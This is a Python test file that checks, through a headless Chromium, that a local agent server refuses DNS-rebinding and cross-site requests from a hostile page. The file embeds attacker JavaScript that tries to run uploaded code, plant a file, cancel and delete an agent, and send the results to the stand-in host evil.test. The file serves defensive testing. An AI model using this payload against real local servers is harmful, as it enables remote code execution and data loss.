"""A web page cannot use the server of somebody who visits it: neither by its own name re-pointed to the server, nor across
sites.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import httpx
import pytest

from hibernaut.local.server import LocalServer, listening
from hibernaut.rest.app import create_app
from hibernaut.wiring.api_services import services_of
from hibernaut.wiring.embedded import Embedded
from hibernaut.wiring.settings import EmbeddedSettings
from tests.browser.chromium import PATIENCE, Site, program, visiting

PAGE = """<!doctype html><script>
const source = SOURCE, form = new FormData();
form.append("file", new Blob(["stolen"], {type: "text/plain"}), "planted.txt");
const run = JSON.stringify({source_code: source, args: {}, name: "steal"});
const attacks = {
  run: ["POST", "/v1/tools/run", run], upload: ["POST", "/v1/folders/FOLDER/upload", form],
  cancel: ["POST", "/v1/agents/AGENT/messages/cancel", undefined], MORE
};
async function attack() {
  await fetch("http://evil.test:CONTROL/go", {mode: "no-cors"});
  const outcomes = {};
  for (const [name, [method, path, body]] of Object.entries(attacks)) {
    const headers = typeof body == "string" ? {"content-type": CONTENT_TYPE} : {};
    try { outcomes[name] = (await fetch("TARGET" + path, {method, body, headers, mode: "MODE"})).status; }
    catch (error) { outcomes[name] = String(error); }
  }
  await fetch("http://evil.test:CONTROL/", {method: "POST", mode: "no-cors", body: JSON.stringify(outcomes)});
}
attack();
</script>"""
FRIEND = '<script>fetch("http://127.0.0.1:PORT/", {method: "POST", mode: "no-cors", body: "hello"});</script>'
OF_ITS_OWN_ORIGIN = 'read: ["GET", "/v1/agents/", undefined], erase: ["DELETE", "/v1/agents/AGENT", undefined]'


class House:
    """A server with an agent and a folder, on whatever port, and what an attack would change."""

    def __init__(self, embedded: Embedded, place: Path) -> None:
        self._app = create_app(services_of(embedded.stores, embedded.host, embedded.engines))
        self.proof = place / "ran"
        with self.served() as port, httpx.Client(base_url=f"http://127.0.0.1:{port}/v1") as client:
            self.agent = client.post("/agents", json={}).json()["id"]
            self.folder = client.post("/folders", json={"name": "papers"}).json()["id"]

    @contextmanager
    def served(self, port: int = 0) -> Iterator[int]:
        """Serve on the port (0: a free one), which it yields."""
        listener = listening("127.0.0.1", port)
        server = LocalServer(self._app, listener)
        thread = threading.Thread(target=server.serve, daemon=True)
        thread.start()
        try:
            yield listener.getsockname()[1]
        finally:
            server.stop()
            thread.join()

    def page(self, control: Site, *, target: str = "", mode: str = "same-origin", more: str = "") -> str:
        """The page of the attacker."""
        source = f'def steal() -> str:\n    """Steal."""\n    open({str(self.proof)!r}, "w").close()\n    return "done"\n'
        kind = "application/json" if mode == "same-origin" else "text/plain"
        words = {"SOURCE": json.dumps(source), "CONTENT_TYPE": json.dumps(kind), "TARGET": target, "MODE": mode, "MORE": more}
        ids = {"CONTROL": str(control.port), "FOLDER": self.folder, "AGENT": self.agent}
        page = PAGE
        for word, value in (words | ids).items():
            page = page.replace(word, value)
        return page

    def is_untouched(self) -> bool:
        """Whether no code ran, nothing was uploaded, and the agent is there."""
        with self.served() as port, httpx.Client(base_url=f"http://127.0.0.1:{port}/v1") as client:
            agent, files = client.get(f"/agents/{self.agent}"), client.get(f"/folders/{self.folder}/files")
        return agent.status_code == 200 and files.json() == [] and not self.proof.exists()


@pytest.fixture
def house(tmp_path: Path) -> Iterator[House]:
    with Embedded(EmbeddedSettings(tmp_path / "data")) as embedded:
        yield House(embedded, tmp_path)


@pytest.fixture(autouse=True)
def chromium() -> str:
    return program()


@pytest.fixture
def control() -> Iterator[Site]:
    """Where the pages wait for their turn, and report to."""
    with closing(Site()) as site:
        yield site


def test_a_page_whose_name_is_re_pointed_to_the_server_reaches_nothing(house: House, control: Site, tmp_path: Path) -> None:
    site = Site(house.page(control, more=OF_ITS_OWN_ORIGIN))
    with visiting(f"http://evil.test:{site.port}/", tmp_path / "profile"):
        assert control.arrived.wait(PATIENCE)
        site.close()
        with house.served(site.port):
            control.go.set()
            outcomes = json.loads(control.report())
    assert outcomes == dict.fromkeys(("run", "upload", "cancel", "read", "erase"), 403)
    assert house.is_untouched()


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_page_of_another_site_changes_nothing(
    house: House, control: Site, tmp_path: Path, caplog: pytest.LogCaptureFixture, name: str
) -> None:
    with house.served() as port:
        control.page = house.page(control, target=f"http://{name}:{port}", mode="no-cors")
        control.go.set()
        with visiting(f"http://evil.test:{control.port}/", tmp_path / "profile"):
            outcomes = json.loads(control.report())
    assert outcomes == dict.fromkeys(("run", "upload", "cancel"), 0)  # sent, and answered in a way that no page can see
    refused = [record.__dict__["error"] for record in caplog.records if record.getMessage() == "request refused"]
    assert refused == ["foreign_origin"] * 3
    assert house.is_untouched()


def test_chromium_reaches_a_server_that_would_let_it_in(control: Site, tmp_path: Path) -> None:
    open_site = Site()
    with closing(open_site):
        control.page = FRIEND.replace("PORT", str(open_site.port))
        with visiting(f"http://evil.test:{control.port}/", tmp_path / "profile"):
            assert open_site.report() == "hello"
